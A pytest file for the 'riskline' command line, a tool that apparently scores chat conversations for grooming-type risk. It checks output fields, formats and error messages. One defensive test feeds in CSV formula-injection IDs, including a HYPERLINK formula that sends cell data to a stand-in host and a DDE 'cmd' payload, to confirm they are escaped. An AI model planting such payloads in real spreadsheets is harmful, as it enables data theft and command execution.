"""``riskline score`` as a user runs it: a real process, real files."""

import csv
import gzip
import io
import itertools
import json
from collections.abc import Iterator
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from detection.batch import CONVERSATION_COLUMNS, MESSAGE_COLUMNS, score_file
from detection.model import RiskModel
from detection.partitioned import score_file_partitioned
from detection.wording import counted
from detection.writers import write_rows
from tests.cli_helpers import riskline
from tests.conftest import write_jsonl

CONTRACT_FIELDS = ["conversation_id", "n_messages", "risk_score", "risk_level", "alert", "alert_index",
                   "alert_message_id", "peak_stage", "suspect_id", "evidence_message_ids", "model_version"]
EXTENSIONS = ["suspect_share", "other_language"]


@pytest.fixture(scope="module")
def events_path(tmp_path_factory: pytest.TempPathFactory, synth_rows: list[dict[str, object]]) -> Path:
    return write_jsonl(tmp_path_factory.mktemp("cli") / "events.jsonl", synth_rows[:1500])


def _read_jsonl(path: Path) -> list[dict[str, object]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_score_writes_every_contract_field(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "scores.jsonl"
    done = riskline("score", events_path, "-o", out, "--model", model_dir)
    assert done.returncode == 0, done.stderr
    rows = _read_jsonl(out)
    assert list(CONVERSATION_COLUMNS) == [*CONTRACT_FIELDS, *EXTENSIONS]  # the contract's, in order, then ours
    assert all(list(r) == list(CONVERSATION_COLUMNS) for r in rows)
    assert all(r["suspect_share"] is None if r["suspect_id"] is None else 0.5 <= r["suspect_share"] <= 1.0
               for r in rows)  # two participants: the suspect carries at least half
    n_conversations = len({json.loads(line)["conversation_id"] for line in events_path.read_text().splitlines()})
    assert len(rows) == n_conversations
    assert any(r["alert"] for r in rows) and not all(r["alert"] for r in rows)
    for r in rows:
        assert 0.0 <= r["risk_score"] <= 1.0  # type: ignore[operator]
        assert r["risk_level"] in ("none", "low", "medium", "high", "critical")
        assert (r["alert_index"] is None) == (not r["alert"]) == (r["alert_message_id"] is None)
    assert f"{n_conversations} conversations" in done.stderr


def test_formats_agree(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    rows = _read_jsonl(events_path)
    csv_in = tmp_path / "events.csv"
    with csv_in.open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert riskline("score", events_path, "-o", tmp_path / "a.parquet", "--model", model_dir).returncode == 0
    done = riskline("score", csv_in, "-o", tmp_path / "b.csv", "--model", model_dir)
    assert done.returncode == 0, done.stderr
    from_parquet = pq.read_table(tmp_path / "a.parquet").to_pylist()
    with (tmp_path / "b.csv").open() as handle:
        from_csv = list(csv.DictReader(handle))
    assert [r["conversation_id"] for r in from_parquet] == [r["conversation_id"] for r in from_csv]
    assert [round(r["risk_score"], 9) for r in from_parquet] == [round(float(r["risk_score"]), 9) for r in from_csv]
    assert json.loads(from_csv[0]["evidence_message_ids"]) == from_parquet[0]["evidence_message_ids"]


def test_csv_results_keep_a_spreadsheet_from_running_ids_as_formulas(
        model: RiskModel, synth_rows: list[dict[str, object]], tmp_path: Path) -> None:
    """Ids come from the people scored (a user name as a sender id): in CSV results, from either local engine, a
    text that a spreadsheet would run as a formula is written after a ' (a plain number, as a negative chat id,
    stays as it is); JSON Lines results and message events keep the ids as they are."""
    def shown(value: object) -> object:  # as a spreadsheet should see an id: a formula's text after a '
        if value is None:
            return ""
        assert isinstance(value, str)
        return value if value == "-1001234567890" or value[0] not in "=+-@" else "'" + value

    # (ids are read with white space taken off either end, so none starts with a tab or a carriage return)
    hostile = {"=HYPERLINK(\"http://x.example/\"&A1)": "=", "+cmd|' /C calc'!A0": "+", "@SUM(1+1)": "@",
               "-2+3": "-", "=1.5": "=", "-1001234567890": None}
    conversations = list(dict.fromkeys(r["conversation_id"] for r in synth_rows))
    rows = []
    for name, conversation in zip(hostile, conversations, strict=False):  # a conversation, a sender, message ids
        rows += [{**r, "conversation_id": name, "message_id": f"{name}#{i}" if i else name,
                  "sender_id": name if i % 2 else r["sender_id"]}
                 for i, r in enumerate(r for r in synth_rows if r["conversation_id"] == conversation)]
    source = write_jsonl(tmp_path / "events.jsonl", rows)
    score_file(model, source, tmp_path / "plain.jsonl")
    score_file(model, source, tmp_path / "local.csv")
    score_file_partitioned(model, source, tmp_path / "parts.csv", workers=2, partitions=3)
    score_file(model, source, tmp_path / "steps.csv", per_message=True)
    plain = _read_jsonl(tmp_path / "plain.jsonl")
    assert {r["conversation_id"] for r in plain} == set(hostile)
    for name in ("local.csv", "parts.csv"):
        with (tmp_path / name).open(newline="") as handle:
            got = list(csv.DictReader(handle))
        assert len(got) == len(plain)
        for cells, row in zip(got, plain, strict=True):
            for field in ("conversation_id", "alert_message_id", "suspect_id"):
                assert cells[field] == shown(row[field]), (name, field)
            assert cells["conversation_id"] == (row["conversation_id"] if row["conversation_id"] == "-1001234567890"
                                                else "'" + row["conversation_id"])
        assert any(shown(row["suspect_id"]) != row["suspect_id"] for row in plain)
    score_file(model, source, tmp_path / "steps.jsonl", per_message=True)
    with (tmp_path / "steps.csv").open(newline="") as handle:
        ids = [r["message_id"] for r in csv.DictReader(handle)]
    assert ids == [shown(r["message_id"]) for r in _read_jsonl(tmp_path / "steps.jsonl")]
    assert "-1001234567890" in ids and "'-1001234567890#1" in ids
    write_rows(tmp_path / "events.csv", rows)  # message events, as convert and synth write them: verbatim
    with (tmp_path / "events.csv").open(newline="") as handle:
        assert [r["sender_id"] for r in csv.DictReader(handle)] == [r["sender_id"] for r in rows]


def test_per_message(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "steps.jsonl"
    assert riskline("score", events_path, "-o", out, "--model", model_dir, "--per-message").returncode == 0
    rows = _read_jsonl(out)
    assert len(rows) == len(events_path.read_text().splitlines())
    assert list(rows[0]) == list(MESSAGE_COLUMNS)
    for r in rows[:50]:
        assert sum(r[f"p_{s}"] for s in ("none", "rapport", "risk_check", "isolation", "sexual", "coercion",
                                           "payment")) == pytest.approx(1.0, abs=1e-4)


def test_bad_row_fails_cleanly_and_writes_nothing(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    lines = events_path.read_text().splitlines()
    broken = json.loads(lines[6])
    broken["timestamp"] = "half past nine"
    bad = tmp_path / "bad.jsonl"
    bad.write_text("\n".join([*lines[:6], json.dumps(broken), *lines[7:]]) + "\n")
    out = tmp_path / "out.jsonl"
    out.write_text("previous results\n")
    done = riskline("score", bad, "-o", out, "--model", model_dir)
    assert done.returncode == 2
    assert done.stderr.count("\n") == 1
    assert f"{bad}: line 7: field 'timestamp'" in done.stderr and "Traceback" not in done.stderr
    assert out.read_text() == "previous results\n"
    assert not list(tmp_path.glob(".out.jsonl.*"))


@pytest.mark.slow
def test_errors_file_sets_bad_rows_aside(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    lines = events_path.read_text().splitlines()
    dup = lines[3]
    missing = json.loads(lines[10])
    del missing["sender_id"]
    bad = tmp_path / "bad.jsonl"
    bad.write_text("\n".join([*lines[:10], json.dumps(missing), *lines[11:], dup, "not json"]) + "\n")
    out, rejects = tmp_path / "out.jsonl", tmp_path / "rejects.jsonl"
    done = riskline("score", bad, "-o", out, "--model", model_dir, "--errors", rejects)
    assert done.returncode == 0, done.stderr
    rejected = _read_jsonl(rejects)
    assert [(r["location"], r["field"]) for r in rejected] == [
        ("line 11", "sender_id"), (f"line {len(lines) + 1}", "message_id"), (f"line {len(lines) + 2}", "row")]
    assert rejected[0]["record"]["message_id"] == missing["message_id"]
    scored = sum(r["n_messages"] for r in _read_jsonl(out))  # type: ignore[misc]
    assert scored == len(lines) - 1
    assert "3 rows rejected" in done.stderr
    for wrong in ("rejects.csv", "rejects.parquet", "rejects.csv.gz"):  # the file would be JSON Lines all the same
        done = riskline("score", bad, "-o", out, "--model", model_dir, "--errors", tmp_path / wrong)
        assert done.returncode == 2 and "bad rows are written as JSON Lines" in done.stderr, done.stderr
        assert not (tmp_path / wrong).exists()
    # gzip in and out, in both local engines: the same rows and rejects, and the same bytes every time
    packed = tmp_path / "bad.jsonl.gz"
    packed.write_bytes(gzip.compress(bad.read_bytes()))
    for engine, env in (("memory", {}), ("partitioned", {"RISKLINE_PARALLEL_MIN_BYTES": "0"})):
        for copy in ("a", "b"):
            done = riskline("score", packed, "-o", tmp_path / f"{engine}{copy}.csv.gz", "--model", model_dir,
                            "--errors", tmp_path / f"{engine}{copy}.rejects.jsonl.gz", env=env)
            assert done.returncode == 0, done.stderr
        assert (tmp_path / f"{engine}a.csv.gz").read_bytes() == (tmp_path / f"{engine}b.csv.gz").read_bytes()
        got = [json.loads(x) for x in gzip.decompress((tmp_path / f"{engine}a.rejects.jsonl.gz").read_bytes())
               .decode().splitlines()]
        assert [(r["location"], r["field"]) for r in got] == [(r["location"], r["field"]) for r in rejected]
        assert sum(int(r["n_messages"]) for r in csv.DictReader(io.StringIO(gzip.decompress(
            (tmp_path / f"{engine}a.csv.gz").read_bytes()).decode()))) == scored


def test_a_count_of_one_is_said_in_the_singular(events_path: Path, model: RiskModel, model_dir: Path,
                                                tmp_path: Path) -> None:
    """One conversation, one alert and one bad row: the summary says so, not "1 alerts, 1 rows"."""
    scored = score_file(model, events_path, tmp_path / "all.jsonl")
    alerted = next(r.conversation_id for r in scored.results if r.alert)
    rows = [r for r in _read_jsonl(events_path) if r["conversation_id"] == alerted]
    one = write_jsonl(tmp_path / "one.jsonl", [*rows, {**rows[0], "message_id": "late", "timestamp": "never"}])
    done = riskline("score", one, "-o", tmp_path / "out.jsonl", "--model", model_dir,
                    "--errors", tmp_path / "bad.jsonl")
    assert done.returncode == 0, done.stderr
    assert done.stderr.startswith(f"scored {len(rows)} messages in 1 conversation: 1 alert, 1 row rejected -> ")
    assert [counted(n, "row") for n in (0, 1, 2)] == ["0 rows", "1 row", "2 rows"]
    assert counted(1, "party", "parties") == "1 party" and counted(3, "party", "parties") == "3 parties"


@pytest.mark.parametrize(("content", "name", "expected"), [
    ("", "empty.jsonl", "empty file"),
    ("a,b\n1,2\n", "x.tsv", "unsupported file type '.tsv'"),
])
def test_unreadable_input(tmp_path: Path, model_dir: Path, content: str, name: str, expected: str) -> None:
    path = tmp_path / name
    path.write_text(content)
    done = riskline("score", path, "-o", tmp_path / "o.jsonl", "--model", model_dir)
    assert done.returncode == 2 and expected in done.stderr and done.stderr.count("\n") == 1
    assert not (tmp_path / "o.jsonl").exists()


@pytest.mark.slow
def test_user_mistakes_exit_2(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    bad = tmp_path / "bad.jsonl"  # a bad row would stop the run after reading: a wrong output name stops it before
    bad.write_text(events_path.read_text() + "{not json\n")
    cases = [
        (["score", bad, "-o", tmp_path / "o.txt", "--model", model_dir], "o.txt: unsupported output type '.txt'"),
        (["score", bad, "-o", tmp_path / "o.jsonl", "--model", model_dir, "--errors", tmp_path / "no" / "r.jsonl"],
         f"--errors {tmp_path / 'no' / 'r.jsonl'}: folder {tmp_path / 'no'} does not exist"),
        (["score", tmp_path / "absent.jsonl", "-o", tmp_path / "o.jsonl", "--model", model_dir], "no such file"),
        (["score", events_path, "-o", tmp_path / "o.jsonl", "--model", tmp_path / "nomodel"], "no such model"),
        (["score", events_path, "-o", tmp_path / "o.txt", "--model", model_dir], "unsupported output type"),
        (["score", bad, "-o", tmp_path / "no" / "o.jsonl", "--model", model_dir], "output folder"),
        (["score", events_path, "-o", tmp_path / "o.jsonl", "--engine", "dask", "--model", model_dir], "'spark'"),
        (["score", events_path, "-o", tmp_path / "o.jsonl", "--engine", "spark", "--model", model_dir], "Parquet"),
        (["score", tmp_path / "absent.jsonl", "-o", tmp_path / "o.parquet", "--engine", "spark", "--model", model_dir],
         "absent.jsonl: no such file"),
        # the local engine's options, which Spark would leave undone
        (["score", events_path, "-o", tmp_path / "o.parquet", "--engine", "spark", "--show", "3"],
         "--show 3: prints from the local"),
        (["score", events_path, "-o", tmp_path / "o.parquet", "--engine", "spark", "--workers", "4"],
         "--workers 4: the local engine"),
    ]
    # a folder where a file would be written: before, "[Errno 21] Is a directory: '.../.x.jsonl.k2j4.tmp' ->
    # 'x.jsonl'" once the work was done
    for name in ("x.jsonl", "x.parquet"):
        (tmp_path / name).mkdir()
    cases += [(args, f"{tmp_path / name}: is a folder; name a file to write") for args, name in [
        (["score", bad, "-o", tmp_path / "x.jsonl", "--model", model_dir], "x.jsonl"),
        (["score", bad, "-o", tmp_path / "o.jsonl", "--errors", tmp_path / "x.jsonl", "--model", model_dir], "x.jsonl"),
        (["score", bad, "-o", tmp_path / "x.parquet", "--engine", "spark", "--model", model_dir], "x.parquet"),
        (["synth", "-o", tmp_path / "x.jsonl", "--n", "3"], "x.jsonl"),
    ]]
    ids = [json.loads(line)["conversation_id"] for line in events_path.read_text().splitlines()]
    n, first = len(set(ids)), ids[0]
    one_bad = tmp_path / "one_bad.jsonl"
    one_bad.write_text(json.dumps({"conversation_id": "c1", "message_id": "1", "sender_id": "a", "timestamp": "soon",
                                   "text": "hi"}) + "\n")
    # an output that is the input (by another name too) or the other output would destroy it
    alias = tmp_path / "same.jsonl"
    alias.symlink_to(events_path)
    cases += [
        (["score", events_path, "-o", alias, "--model", model_dir], f"--output {alias} is also INPUT"),
        (["score", events_path, "-o", tmp_path / "o.jsonl", "--errors", tmp_path / "o.jsonl", "--model", model_dir],
         "--errors " + str(tmp_path / "o.jsonl") + " is also --output"),
        # before: --show -1 printed every conversation but the least risky
        (["score", events_path, "-o", tmp_path / "o.jsonl", "--show", "-1", "--model", model_dir],
         "Invalid value for '--show': Input should be greater than or equal to 0"),
        # explain without --conversation takes a file's one conversation; of several, it asks which
        (["explain", events_path, "--model", model_dir], f"{events_path}: holds {n} conversations: give "
                                                         f"--conversation ID ({first!r}, "),
        # before: "no conversation 'c1' (1 conversation in the file)", of a conversation that is there
        (["explain", one_bad, "--model", model_dir], f"{one_bad}: conversation 'c1' has no row that can be read (1 "
                                                     f"bad row); the first: {one_bad}: line 1: field 'timestamp'"),
    ]
    kept = events_path.read_bytes()
    for args, expected in cases:
        done = riskline(*args)
        assert done.returncode == 2, (args, done.stderr)
        assert expected in done.stderr and "Traceback" not in done.stderr
    # before: "invalid literal for int() with base 10: '16M'", naming nothing
    done = riskline("score", events_path, "-o", tmp_path / "o.jsonl", "--model", model_dir,
                    env={"RISKLINE_PARALLEL_MIN_BYTES": "16M"})
    assert done.returncode == 2 and done.stderr == "riskline: error: RISKLINE_PARALLEL_MIN_BYTES='16M': expected a " \
                                                   "whole number of bytes (0: partition every input); unset it for " \
                                                   "the default\n"
    assert events_path.read_bytes() == kept and not (tmp_path / "o.jsonl").exists()


@pytest.mark.slow
def test_an_mlflow_uri_without_its_database_is_one_line(events_path: Path, tmp_path: Path) -> None:
    # MLflow's default database is ./mlflow.db: where there is none, MLflow made an empty one, logged that on
    # stderr, then failed to find the model
    for uri, env in [("models:/riskline@champion", {}),
                     ("runs:/0123abcd/model", {"MLFLOW_TRACKING_URI": f"sqlite:///{tmp_path / 'elsewhere.db'}"})]:
        done = riskline("score", events_path, "-o", tmp_path / "o.jsonl", "--model", uri, cwd=tmp_path,
                        env={"MLFLOW_TRACKING_URI": "", **env})
        assert done.returncode == 2, done.stderr
        database = tmp_path / ("elsewhere.db" if env else "mlflow.db")
        assert done.stderr.splitlines() == [f"riskline: error: {uri}: no MLflow database at {database} (set "
                                            "MLFLOW_TRACKING_URI, or run where the model was registered)"]
        assert not database.exists() and not (tmp_path / "o.jsonl").exists()


def test_spark_where_pyspark_is_not_installed_is_one_line(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    """Installed without the 'spark' extra (here pyspark cannot be imported): before, a traceback once
    the session was started."""
    done = riskline("score", events_path, "-o", tmp_path / "o.parquet", "--engine", "spark", "--model", model_dir,
                    blocked=("pyspark",))
    assert done.returncode == 2 and done.stderr.splitlines() == [
        "riskline: error: --engine spark needs PySpark, which is not installed here (import of pyspark halted; "
        "None in sys.modules): pip install 'riskline[spark]' (and Java 17); in a source checkout, make install"]
    assert sorted(tmp_path.iterdir()) == []


def test_labels_and_unknown_columns_do_not_change_scores(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    rows = _read_jsonl(events_path)
    plain = [{k: r[k] for k in ("conversation_id", "message_id", "sender_id", "timestamp", "text")} for r in rows]
    write_jsonl(tmp_path / "plain.jsonl", plain)
    riskline("score", events_path, "-o", tmp_path / "a.jsonl", "--model", model_dir)
    riskline("score", tmp_path / "plain.jsonl", "-o", tmp_path / "b.jsonl", "--model", model_dir)
    a, b = _read_jsonl(tmp_path / "a.jsonl"), _read_jsonl(tmp_path / "b.jsonl")
    # attachments were dropped too, so compare only conversations without any
    with_media = {r["conversation_id"] for r in rows if r.get("attachment")}
    assert [x for x in a if x["conversation_id"] not in with_media] == \
        [x for x in b if x["conversation_id"] not in with_media]


@pytest.mark.slow
def test_score_and_explain_a_folder_of_part_files(events_path: Path, model_dir: Path, tmp_path: Path) -> None:
    """A folder is scored as the file of its parts, by either local engine, and explained; an output
    inside it is refused, as it would be read as input the next time."""
    lines = events_path.read_text().splitlines(keepends=True)
    folder = tmp_path / "events"
    (folder / "day=1").mkdir(parents=True)
    (folder / "day=2").mkdir()
    (folder / "day=1" / "part-0.jsonl").write_text("".join(lines[:700]))
    with gzip.open(folder / "day=2" / "part-0.jsonl.gz", "wt") as handle:
        handle.write("".join(lines[700:]))
    (folder / "_SUCCESS").write_text("")
    one = riskline("score", events_path, "-o", tmp_path / "one.jsonl", "--model", model_dir)
    assert one.returncode == 0, one.stderr
    for name, env in (("memory", {}), ("partitioned", {"RISKLINE_PARALLEL_MIN_BYTES": "0"})):
        done = riskline("score", folder, "-o", tmp_path / f"{name}.jsonl", "--model", model_dir, env=env)
        assert done.returncode == 0, done.stderr
        assert (tmp_path / f"{name}.jsonl").read_text() == (tmp_path / "one.jsonl").read_text()
    conversation = json.loads(lines[699])["conversation_id"]  # its messages run into the second part
    explained = [riskline("explain", source, "--conversation", conversation, "--model", model_dir, "--json")
                 for source in (events_path, folder)]
    assert explained[0].returncode == 0 and explained[0].stdout == explained[1].stdout
    assert len(explained[1].stdout.splitlines()) == sum(conversation in line for line in lines)
    assert conversation in lines[700]  # its first message in the first part, the rest in the second
    absent = riskline("explain", folder, "--conversation", "nobody", "--model", model_dir)
    n = len({json.loads(line)["conversation_id"] for line in lines})
    assert absent.returncode == 2 and absent.stderr == (f"riskline: error: {folder}: no conversation 'nobody' ({n} "
                                                        "conversations in its files)\n")
    cut = riskline("explain", folder, "--conversation", conversation[:-3].upper(), "--model", model_dir)
    assert cut.returncode == 2 and cut.stderr.endswith(f"conversations in its files; did you mean {conversation!r}?)\n")
    inside = riskline("score", folder, "-o", folder / "scores.jsonl", "--model", model_dir)
    assert inside.returncode == 2 and not (folder / "scores.jsonl").exists()
    assert f"--output {folder / 'scores.jsonl'} is inside INPUT {folder}, a folder of input files" in inside.stderr
    (folder / "day=3").mkdir()
    (folder / "day=3" / "late.csv").write_text("conversation_id,message_id,sender_id,timestamp,text\n")
    mixed = riskline("score", folder, "-o", tmp_path / "s.parquet", "--engine", "spark", "--model", model_dir)
    assert mixed.returncode == 2 and mixed.stderr.splitlines() == [  # said before Spark starts
        f"riskline: error: {folder}: --engine spark reads a folder of one format; this one holds .csv and .jsonl "
        "files (the local engine reads them together)"]


def test_an_output_that_runs_out_of_room_is_said_by_name_and_leaves_nothing(events_path: Path, model_dir: Path,
                                                                            tmp_path: Path) -> None:
    """A full disk (here a real file-size limit on the process) part-way through the output, or through the
    partitioned engine's working files beside it: one line naming the output, no traceback, and nothing
    left in its folder, neither the output nor a temporary file."""
    for name, env, what in (("memory", {}, "could not be written"),
                            ("partitioned", {"RISKLINE_PARALLEL_MIN_BYTES": "0"},
                             f"scoring's working files in {tmp_path / 'partitioned'} could not be written")):
        (folder := tmp_path / name).mkdir()
        out = folder / "scores.jsonl"
        full = riskline("score", events_path, "-o", out, "--per-message", "--model", model_dir, "--workers", "2",
                        env=env, max_file_bytes=64 * 1024)
        assert full.returncode == 2, full.stderr
        assert full.stderr == f"riskline: error: {out}: {what} (File too large); nothing was written there\n"
        assert list(folder.iterdir()) == []
    fits = tmp_path / "memory" / "scores.jsonl"  # under the same limit, a smaller output is written
    done = riskline("score", events_path, "-o", fits, "--model", model_dir, max_file_bytes=64 * 1024)
    assert done.returncode == 0 and 0 < fits.stat().st_size < 64 * 1024, done.stderr
    fits.unlink()
    big = tmp_path / "synth.parquet"
    full = riskline("synth", "-o", big, "--n", "2000", max_file_bytes=64 * 1024)
    assert full.returncode == 2 and full.stderr.endswith(f"{big}: could not be written (File too large); "
                                                         "nothing was written there\n"), full.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["memory", "partitioned"]


def test_output_read_only_in_part_ends_quietly(tmp_path: Path) -> None:
    """`riskline explain ... --json | head`: when what reads stdout stops, the command stops with the
    status a shell gives a tool that SIGPIPE ends, and no error line ("[Errno 32] Broken pipe") or
    traceback on stderr."""
    import subprocess

    from tests.cli_helpers import RISKLINE

    rows = [{"conversation_id": "long", "message_id": f"m{i}", "sender_id": f"u{i % 2}",
             "timestamp": 1_700_000_000 + 60 * i, "text": f"message number {i} of a long chat"} for i in range(600)]
    source = write_jsonl(tmp_path / "long.jsonl", rows)
    for json_lines in (["--json"], []):  # written by the command itself, and through rich
        process = subprocess.Popen([RISKLINE, "explain", str(source), "--conversation", "long", *json_lines],
                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        assert process.stdout is not None and process.stderr is not None
        assert len(process.stdout.read(100)) == 100
        process.stdout.close()  # as `head` does once it has its lines
        assert process.wait(timeout=120) == 141
        assert process.stderr.read() == b""


def test_version_and_help_read_whole_in_80_columns() -> None:
    """Rich's help panels cut long option names (--max-false-alert-rate read --max-false-ale…) and
    the command list cut descriptions; every name and description now shows whole at 80 columns."""
    from importlib.metadata import version

    import typer
    from typer.testing import CliRunner

    from detection.cli import app, load_plugins

    shown = riskline("--version")
    assert shown.returncode == 0 and shown.stdout == f"riskline {version('riskline')}\n"
    load_plugins()
    group = typer.main.get_command(app)
    # Click lays help out 2 columns short of the terminal; its CliRunner lays it out at 80 whatever the terminal
    listing = riskline("--help", env={"COLUMNS": "80"}).stdout
    runner = CliRunner()  # in process: ten more processes would take seconds
    assert max(map(len, listing.splitlines())) <= 80
    for name, command in group.commands.items():  # type: ignore[attr-defined]
        line = next(line for line in listing.splitlines() if line.startswith(f"  {name} "))
        assert command.help.split("\n")[0] in line and not line.endswith("...")
        text = runner.invoke(app, [name, "--help"], terminal_width=80).stdout
        for param in command.params:
            for option in [o for o in [*param.opts, *param.secondary_opts] if o.startswith("-")]:
                assert option in text.split() or f"{option}," in text or f"{option}/" in text, (name, option)



def test_every_option_that_takes_a_value_names_it_in_the_help() -> None:
    """Typer names an option's value by its Python type where no name is given: ``--data <list[Path]>``,
    ``--engine <str>``, ``--show <int range>``. Each option now says what it takes: ``--data DATA``,
    ``--engine local|spark``, ``--show N``."""
    import typer
    from typer.testing import CliRunner

    from detection.cli import app, load_plugins

    load_plugins()
    group = typer.main.get_command(app)
    runner = CliRunner()
    named = 0
    for name, command in group.commands.items():  # type: ignore[attr-defined]
        lines = runner.invoke(app, [name, "--help"], terminal_width=80).stdout.splitlines()
        for param in command.params:
            if param.param_type_name == "option" and not param.is_flag:  # type: ignore[attr-defined]
                assert param.metavar and "<" not in param.metavar, (name, param.opts)
                shown = f"{', '.join(param.opts)} {param.metavar}"
                assert any(line.lstrip().startswith(shown) for line in lines), (name, shown)
                named += 1
    assert named >= 60  # every command's: a command missing from the group would leave its options unchecked


def test_each_setting_the_help_shows_names_its_variable_and_its_default() -> None:
    """The service's and stream worker's settings are each also ``RISKLINE_<NAME>`` (Kubernetes sets them so): the
    help of each option that is one names it, and a default it names is the setting's own. Before, ``stream``'s
    --topic, --interventions-topic, --rejects-topic, --session-timeout and --max-poll-interval named none, and
    --state and --brokers no default."""
    import re

    import typer

    from detection.cli import app
    from detection.settings import ServiceSettings, StreamSettings

    group = typer.main.get_command(app)
    checked = defaults = 0
    for name, settings in (("serve", ServiceSettings), ("stream", StreamSettings), ("backfill", ServiceSettings),
                           ("erase", ServiceSettings)):
        for param in group.commands[name].params:  # type: ignore[attr-defined]
            if param.name not in settings.model_fields:
                continue
            said = " ".join(str(param.help).split())
            assert f"[RISKLINE_{param.name.upper()}" in said, (name, param.name, said)
            default = settings.model_fields[param.name].default
            if (shown := re.search(r"default ([^,;\]\s]+)", said)) is not None:
                value = shown.group(1).rstrip(":")
                assert value == str(default) or float(value) == default, (name, param.name, value, default)
                defaults += 1
            else:
                assert default is None, (name, param.name, default)
            checked += 1
    assert checked >= 30 and defaults >= 19


def test_the_choices_the_help_names_are_those_accepted() -> None:
    """The help names an option's choices (``--model-type baseline|transformer``) where the module that checks
    them is not loaded (the command line starts without numpy): they are read here against what is accepted."""
    from typing import get_args

    import typer

    from detection.cli import app, load_plugins
    from detection.cli_batch import ENGINES
    from detection.settings import ServiceSettings
    from training.config import ENCODERS, MODEL_TYPES
    from training.logs import UNITS

    load_plugins()
    group = typer.main.get_command(app)
    accepted = {"--engine": ENGINES, "--model-type": MODEL_TYPES, "--encoder": ENCODERS,
                "--timestamp-unit": tuple(UNITS), "--label": ("0", "1"),  # convert's conversation_label, min 0 max 1
                "--on-model-change": get_args(ServiceSettings.model_fields["on_model_change"].annotation)}
    named = {(name, param.opts[-1]): tuple(param.metavar.split("|"))
             for name, command in group.commands.items()  # type: ignore[attr-defined]
             for param in command.params if param.metavar and "|" in param.metavar}
    assert {option for _, option in named} == set(accepted)
    for (name, option), choices in named.items():
        assert choices == tuple(accepted[option]), (name, option)

def test_a_uri_where_a_file_goes_is_refused_by_name_and_a_file_uri_is_read(events_path: Path, model_dir: Path,
                                                                          tmp_path: Path) -> None:
    """pathlib folds ``s3a://bucket/x`` into the path ``s3a:/bucket/x``: the error used to be 's3a:/bucket/x: no such
    file' (or, for an output, that folder 's3a:/bucket' does not exist). Every file option now names the URI."""
    import typer
    from typer.testing import CliRunner

    from detection.cli import app, load_plugins
    from detection.cli_common import local_path

    load_plugins()
    group = typer.main.get_command(app)
    files = [(name, param.name) for name, command in group.commands.items()  # type: ignore[attr-defined]
             for param in command.params if "Path" in repr(param.type_descriptor.annotation)]
    assert len(files) >= 18 and ("convert", "predators") in files and ("train", "data") in files
    for name, command in group.commands.items():  # type: ignore[attr-defined]
        for param in command.params:  # a file option without the parser would fold URIs again
            if (name, param.name) in files:
                assert param.type_descriptor.parameter_info.parser is local_path, (name, param.name)
    runner = CliRunner()
    out = tmp_path / "o.jsonl"
    for args, shown in [
        (["score", events_path, "-o", "s3://bucket/scores.jsonl"], "'-o' / '--output': s3://bucket/scores.jsonl"),
        (["score", "s3a://bucket/events/", "-o", out, "--engine", "spark"], "'INPUT': s3a://bucket/events/"),
        (["score", events_path, "-o", out, "--errors", "gs://b/rejects.jsonl"], "'--errors': gs://b/rejects.jsonl"),
        (["explain", "HDFS://nn/e.jsonl", "--conversation", "c"], "'INPUT': HDFS://nn/e.jsonl"),
        (["train", "--data", events_path, "--data", "abfss://c@a.dfs.core.windows.net/d", "--out", tmp_path / "m"],
         "'--data': abfss://c@a.dfs.core.windows.net/d"),
        (["convert", "s3://b/pan.xml", "-o", out], "'INPUT': s3://b/pan.xml"),
        (["synth", "-o", "s3://b/s.jsonl"], "s3://b/s.jsonl"),
        (["serve", "--config", "http://host/riskline.yaml"], "'--config': http://host/riskline.yaml"),
    ]:
        done = runner.invoke(app, list(map(str, args)))
        assert done.exit_code == 2, (args, done.output)
        assert shown in done.output and "is a URI" in done.output and "not a path on this machine" in done.output
    assert not out.exists() and not (tmp_path / "m").exists()
    # file:// names a local file (%-escapes and the host "localhost" as RFC 8089 allows)
    spaced = tmp_path / "my events.jsonl"
    spaced.write_bytes(events_path.read_bytes())
    done = runner.invoke(app, ["score", spaced.as_uri(), "-o", f"file://localhost{tmp_path.as_posix()}/o%20x.jsonl",
                               "--model", str(model_dir)])
    assert done.exit_code == 0, done.output
    expected = riskline("score", events_path, "-o", out, "--model", model_dir)
    assert expected.returncode == 0 and (tmp_path / "o x.jsonl").read_text() == out.read_text()


def test_an_empty_path_is_refused_by_its_option_not_read_as_the_working_folder(
        events_path: Path, model_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """An unset shell variable (`riskline score "$IN" ...`) gives an empty path, which pathlib reads as ".": the
    command scored the working folder's files, or wrote a report into it (and MLflow then logged the folder into its
    own mlruns there, again and again). Every file option now refuses it by name, before any work."""
    from typer.testing import CliRunner

    from detection.cli import app, load_plugins

    load_plugins()
    monkeypatch.chdir(tmp_path)
    (tmp_path / "events.jsonl").write_bytes(events_path.read_bytes())
    out = tmp_path / "out"
    out.mkdir()
    for args, option in [
        (["score", "", "-o", out / "s.jsonl"], "'INPUT'"),
        (["score", "events.jsonl", "-o", ""], "'-o' / '--output'"),
        (["score", "events.jsonl", "-o", out / "s.jsonl", "--errors", ""], "'--errors'"),
        (["explain", "", "--conversation", "c"], "'INPUT'"),
        (["evaluate", "--data", "events.jsonl", "--model", model_dir, "--report", ""], "'--report'"),
        (["train", "--data", "", "--out", out / "m"], "'--data'"),
        (["thresholds", "--data", "events.jsonl", "--out", ""], "'--out'"),
        (["synth", "-o", ""], "'-o' / '--output'"),
        (["backfill", "", "--state", out / "state.db"], "'INPUT'"),
    ]:
        done = CliRunner().invoke(app, list(map(str, args)))
        assert done.exit_code == 2, (args, done.output)
        assert f"Invalid value for {option}: an empty path; name a file or folder" in done.output, (args, done.output)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["events.jsonl", "out"] and not any(out.iterdir())
